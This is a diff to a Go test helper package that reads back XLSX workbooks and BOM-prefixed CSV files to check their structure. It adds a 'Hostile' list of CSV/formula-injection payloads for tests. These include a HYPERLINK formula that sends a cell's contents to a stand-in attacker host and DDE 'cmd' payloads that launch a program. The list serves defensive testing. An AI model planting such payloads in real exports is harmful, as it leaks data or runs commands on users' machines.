@@ -1,16 +1,32 @@
-package main
+// Package sheettest reads back, in tests, the files package sheet writes,
+// checking their form on the way: every part of a workbook there and well
+// formed, a CSV's byte-order mark.
+package sheettest
 
 import (
 	"archive/zip"
 	"bytes"
+	"encoding/csv"
 	"encoding/xml"
 	"io"
-	"reflect"
 	"strings"
 	"testing"
+
+	"github.com/unionhub/unionhub/sheet"
 )
 
-// xlsxSheetXML is the parsed worksheet of a workbook writeXLSX wrote.
+// Hostile are cells a spreadsheet would run as formulas: tests put them
+// wherever text from people or files lands in a file.
+var Hostile = []string{
+	`=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")`,
+	"+1+cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
+	"@SUM(1+9)*cmd|' /C calc'!A0",
+	"\t=1+1",
+	"\r=1+1",
+}
+
+// xlsxSheetXML is the parsed worksheet of a workbook sheet.WriteXLSX wrote.
 type xlsxSheetXML struct {
 	Rows []struct {
 		R     string `xml:"r,attr"`
@@ -26,9 +42,10 @@ type xlsxSheetXML struct {
 	} `xml:"sheetData>row"`
 }
 
-// readXLSX opens a workbook, checks that every part is there and well
-// formed, and returns its cells row by row.
-func readXLSX(t *testing.T, data []byte) [][]string {
+// ReadXLSX opens a workbook, checks that every part is there and well
+// formed, that every cell is an inline string and only the header bold,
+// and returns its cells row by row.
+func ReadXLSX(t testing.TB, data []byte) [][]string {
 	t.Helper()
 	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
 	if err != nil {
@@ -113,15 +130,15 @@ func readXLSX(t *testing.T, data []byte) [][]string {
 		t.Errorf("styles %+v (%v): want style 1 bold", styles, err)
 	}
 
-	var sheet xlsxSheetXML
-	if err := xml.Unmarshal(parts["xl/worksheets/sheet1.xml"], &sheet); err != nil {
+	var ws xlsxSheetXML
+	if err := xml.Unmarshal(parts["xl/worksheets/sheet1.xml"], &ws); err != nil {
 		t.Fatalf("sheet: %v", err)
 	}
 	var out [][]string
-	for i, row := range sheet.Rows {
+	for i, row := range ws.Rows {
 		var cells []string
 		for j, c := range row.Cells {
-			if want := columnName(j) + row.R; c.R != want || c.T != "inlineStr" || c.Text.Space != "preserve" {
+			if want := sheet.ColumnName(j) + row.R; c.R != want || c.T != "inlineStr" || c.Text.Space != "preserve" {
 				t.Errorf("cell %s: t=%q space=%q, want %s inline, space preserved", c.R, c.T, c.Text.Space, want)
 			}
 			if (i == 0) != (c.S == "1") {
@@ -142,60 +159,19 @@ func keys(m map[string][]byte) []string {
 	return k
 }
 
-func TestXLSXRoundTripsCells(t *testing.T) {
-	t.Parallel()
-	rows := [][]string{
-		{"name", "note", "empty"},
-		{`<b>&amp; "quoted" 'single'`, "Профсоюз «Рыбак» № 5 — ёлка", ""},
-		{"line one\nline two\ttab\r\n", "emoji 👩‍🔧 e\u0301 \u200fשלום ﷽", "=SUM(A1:A2)"},
-		{"ctl\x00\x01\x08\x0b\x0c\x1f\x7f end", "\ufffe\uffff bad \xff\xfe bytes", "]]> <![CDATA[ x"},
+// ReadExcelCSV parses a CSV written for people (sheet.WriteExcelCSV),
+// which must start with a UTF-8 byte-order mark.
+func ReadExcelCSV(t testing.TB, out string) [][]string {
+	t.Helper()
+	body, ok := strings.CutPrefix(out, "\ufeff")
+	if !ok {
+		t.Fatalf("CSV does not start with a UTF-8 byte-order mark: %q", out[:min(len(out), 20)])
 	}
-	var buf bytes.Buffer
-	if err := writeXLSX(&buf, "contacts", rows); err != nil {
-		t.Fatal(err)
+	cr := csv.NewReader(strings.NewReader(body))
+	cr.FieldsPerRecord = -1
+	recs, err := cr.ReadAll()
+	if err != nil {
+		t.Fatalf("parse CSV: %v\n%s", err, out)
 	}
-	got := readXLSX(t, buf.Bytes())
-	want := [][]string{
-		rows[0],
-		rows[1],
-		rows[2],
-		// XML 1.0 forbids these control characters and non-characters:
-		// they are dropped; DEL is allowed and kept; bad UTF-8 becomes U+FFFD.
-		{"ctl\x7f end", " bad \ufffd bytes", "]]> <![CDATA[ x"},
-	}
-	if !reflect.DeepEqual(got, want) {
-		t.Errorf("cells\n got %q\nwant %q", got, want)
-	}
-	sheet := xlsxSheet(rows)
-	if strings.Contains(sheet, "<b>") || !strings.Contains(sheet, "&lt;b&gt;&amp;amp;") {
-		t.Errorf("text is not escaped:\n%s", sheet)
-	}
-	if strings.Contains(sheet, "<f>") {
-		t.Error("a cell became a formula")
-	}
-}
-
-func TestXLSXHeaderOnlyAndManyColumns(t *testing.T) {
-	t.Parallel()
-	header := make([]string, 30)
-	for i := range header {
-		header[i] = "h" + columnName(i)
-	}
-	var buf bytes.Buffer
-	if err := writeXLSX(&buf, "contacts", [][]string{header}); err != nil {
-		t.Fatal(err)
-	}
-	got := readXLSX(t, buf.Bytes())
-	if len(got) != 1 || len(got[0]) != 30 || got[0][29] != "hAD" {
-		t.Errorf("cells %q", got)
-	}
-}
-
-func TestXLSXColumnNames(t *testing.T) {
-	t.Parallel()
-	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 27: "AB", 51: "AZ", 52: "BA", 701: "ZZ", 702: "AAA", 16383: "XFD"} {
-		if got := columnName(i); got != want {
-			t.Errorf("columnName(%d) = %s, want %s", i, got, want)
-		}
-	}
+	return recs
 }
